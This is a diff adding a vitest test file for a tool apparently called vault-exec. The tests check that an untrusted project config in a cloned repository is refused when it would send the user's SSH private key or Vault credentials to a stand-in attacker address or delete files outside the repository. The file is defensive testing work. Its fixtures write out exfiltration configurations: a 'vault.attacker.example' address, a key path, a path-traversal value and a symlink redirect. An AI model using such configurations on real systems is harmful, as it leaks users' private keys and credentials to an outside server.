@@ -1,0 +1,166 @@
+// A vault-exec.yaml that vault-exec found by itself came with the repository: run() in-process, over
+// an in-memory checkout, must refuse before any Vault client exists whatever would send a file or a
+// credential of yours to the file's address, or delete a file outside the repository.
+import { describe, expect, test } from 'vitest';
+import type { MemoryTree } from './memory-io';
+import { NO_VAULT_LINE, runInProcess } from './run-in-process';
+
+const REPO = '/home/you/src/cloned';
+const KEY = '/home/you/.ssh/id_ed25519';
+const THEIRS = 'https://vault.attacker.example:8200';
+
+/** A clone with a .git, a role-id of its own, and your private key outside it. */
+function checkout(projectFile: string, extra: MemoryTree['files'] = {}): MemoryTree {
+  return {
+    files: {
+      [`${REPO}/vault-exec.yaml`]: projectFile,
+      [`${REPO}/role-id`]: 'their-role-id\n',
+      [`${REPO}/secret-id`]: 'their-secret-id\n',
+      [KEY]: 'PRIVATE KEY MATERIAL\n',
+      ...extra,
+    },
+    directories: [`${REPO}/.git`],
+  };
+}
+
+async function runIn(tree: MemoryTree, argv: string[], env: Record<string, string> = {}, cwd = REPO) {
+  const result = await runInProcess(argv, { tree, cwd, env: { HOME: '/home/you', ...env } });
+  return { ...result, vaultAddress: result.vault?.address };
+}
+
+const file = (lines: string[]) => `${lines.join('\n')}\n`;
+
+describe('a found project file cannot send your files or credentials to its address', () => {
+  test.each([
+    [
+      'a secret-id-file outside the repository (your SSH key), for check',
+      file([`vault-addr: ${THEIRS}`, 'auth: approle', 'role-id-file: role-id', `secret-id-file: ${KEY}`]),
+      ['check'],
+      {},
+      `refusing the project file ${REPO}/vault-exec.yaml: its secret-id-file ${KEY} is outside its repository ${REPO}; keep that file in the repository, or pass the project file with --config if you trust it`,
+    ],
+    [
+      'the same with remove-secret-id-file, for env',
+      file([
+        `vault-addr: ${THEIRS}`,
+        'role-id-file: role-id',
+        `secret-id-file: ${KEY}`,
+        'remove-secret-id-file: true',
+      ]),
+      ['env', '--format', 'json'],
+      {},
+      `refusing the project file ${REPO}/vault-exec.yaml: its secret-id-file ${KEY} is outside its repository ${REPO}; keep that file in the repository, or pass the project file with --config if you trust it`,
+    ],
+    [
+      'a relative path that climbs out of the repository',
+      file(['role-id-file: role-id', 'secret-id-file: ../../.ssh/id_ed25519']),
+      ['check'],
+      { VAULT_ADDR: 'https://vault.mine.example:8200' },
+      `refusing the project file ${REPO}/vault-exec.yaml: its secret-id-file ${KEY} is outside its repository ${REPO}; keep that file in the repository, or pass the project file with --config if you trust it`,
+    ],
+    [
+      'a jwt-file outside the repository',
+      file(['auth: jwt', 'role: ci', `jwt-file: ${KEY}`]),
+      ['check'],
+      { VAULT_ADDR: 'https://vault.mine.example:8200' },
+      `refusing the project file ${REPO}/vault-exec.yaml: its jwt-file ${KEY} is outside its repository ${REPO}; keep that file in the repository, or pass the project file with --config if you trust it`,
+    ],
+    [
+      "VAULT_ROLE_ID and VAULT_SECRET_ID exported for another project, to the file's address",
+      file([`vault-addr: ${THEIRS}`]),
+      ['check'],
+      { VAULT_ROLE_ID: 'my-role-id', VAULT_SECRET_ID: 'my-secret-id' },
+      `${REPO}/vault-exec.yaml sets vault-addr, but the role_id (from VAULT_ROLE_ID) is not the repository's, and only goes to an address you set: export VAULT_ADDR=${THEIRS}, pass --vault-addr, or pass the project file with --config if you trust it`,
+    ],
+    [
+      "the repository's role_id with your exported secret_id",
+      file([`vault-addr: ${THEIRS}`, 'role-id-file: role-id']),
+      ['run', '--', 'app'],
+      { VAULT_SECRET_ID: 'my-secret-id' },
+      `${REPO}/vault-exec.yaml sets vault-addr, but the secret_id (from VAULT_SECRET_ID) is not the repository's, and only goes to an address you set: export VAULT_ADDR=${THEIRS}, pass --vault-addr, or pass the project file with --config if you trust it`,
+    ],
+    [
+      'a secret_id file you name on the command line, outside the repository',
+      file([`vault-addr: ${THEIRS}`, 'role-id-file: role-id']),
+      ['check', '--secret-id-file', KEY],
+      {},
+      `${REPO}/vault-exec.yaml sets vault-addr, but the secret_id (from --secret-id-file ${KEY}) is not the repository's, and only goes to an address you set: export VAULT_ADDR=${THEIRS}, pass --vault-addr, or pass the project file with --config if you trust it`,
+    ],
+  ])('%s: exit 64, one line, nothing read, no Vault', async (_, text, argv, env, line) => {
+    const result = await runIn(checkout(text), argv, env);
+    expect(result.code).toBe(64);
+    expect(result.lines).toEqual([`vault-exec: ${line}`]);
+    expect(result.vaultAddress).toBeUndefined();
+    expect(result.read).not.toContain(KEY);
+  });
+
+  test('a symbolic link in the repository does not carry a path out of it', async () => {
+    const tree = checkout(file(['role-id-file: role-id', 'secret-id-file: config/secret-id']));
+    tree.links = { [`${REPO}/config`]: '/home/you/.ssh' };
+    tree.files![`/home/you/.ssh/secret-id`] = 'mine\n';
+    const result = await runIn(tree, ['check'], { VAULT_ADDR: 'https://vault.mine.example:8200' });
+    expect(result.code).toBe(64);
+    expect(result.lines).toEqual([
+      `vault-exec: refusing the project file ${REPO}/vault-exec.yaml: its secret-id-file ${REPO}/config/secret-id (really /home/you/.ssh/secret-id) is outside its repository ${REPO}; keep that file in the repository, or pass the project file with --config if you trust it`,
+    ]);
+  });
+});
+
+describe('a found project file never deletes anything outside its repository', () => {
+  test('its remove-secret-id-file with a secret_id file given elsewhere is refused', async () => {
+    const tree = checkout(file(['role-id-file: role-id', 'remove-secret-id-file: true']));
+    const result = await runIn(tree, ['env', '--secret-id-file', KEY], {
+      VAULT_ADDR: 'https://vault.mine.example:8200',
+    });
+    expect(result.code).toBe(64);
+    expect(result.lines).toEqual([
+      `vault-exec: refusing the project file ${REPO}/vault-exec.yaml: its remove-secret-id-file would delete ${KEY}, outside its repository ${REPO}; drop remove-secret-id-file from it, or pass the project file with --config if you trust it`,
+    ]);
+  });
+
+  test('the flag given by you on the command line is yours, and applies', async () => {
+    const tree = checkout(file(['role-id-file: role-id']));
+    const result = await runIn(tree, ['env', '--secret-id-file', KEY, '--remove-secret-id-file'], {
+      VAULT_ADDR: 'https://vault.mine.example:8200',
+    });
+    expect(result.vaultAddress).toBe('https://vault.mine.example:8200');
+  });
+});
+
+describe('what the rule leaves alone', () => {
+  test("the repository's own credentials go to the file's address, from any subdirectory", async () => {
+    const text = file([
+      `vault-addr: ${THEIRS}`,
+      'role-id-file: ../../role-id',
+      'secret-id-file: ../../secret-id',
+      'remove-secret-id-file: true',
+    ]);
+    const tree: MemoryTree = {
+      files: {
+        [`${REPO}/services/web/vault-exec.yaml`]: text,
+        [`${REPO}/role-id`]: 'their-role-id\n',
+        [`${REPO}/secret-id`]: 'their-secret-id\n',
+      },
+      directories: [`${REPO}/.git`],
+    };
+    const result = await runIn(tree, ['check'], {}, `${REPO}/services/web`);
+    expect(result.lines.at(-1)).toBe(NO_VAULT_LINE);
+    expect(result.vaultAddress).toBe(THEIRS);
+  });
+
+  test('an address you set takes your credentials, whatever the file says', async () => {
+    const tree = checkout(file([`vault-addr: ${THEIRS}`]));
+    const result = await runIn(tree, ['check'], {
+      VAULT_ADDR: 'https://vault.mine.example:8200',
+      VAULT_ROLE_ID: 'my-role-id',
+      VAULT_SECRET_ID: 'my-secret-id',
+    });
+    expect(result.vaultAddress).toBe('https://vault.mine.example:8200');
+  });
+
+  test('a file you pass with --config is trusted as given', async () => {
+    const tree = checkout(file([`vault-addr: ${THEIRS}`, 'role-id-file: role-id', `secret-id-file: ${KEY}`]));
+    const result = await runIn(tree, ['check', '--config', 'vault-exec.yaml']);
+    expect(result.vaultAddress).toBe(THEIRS);
+  });
+});
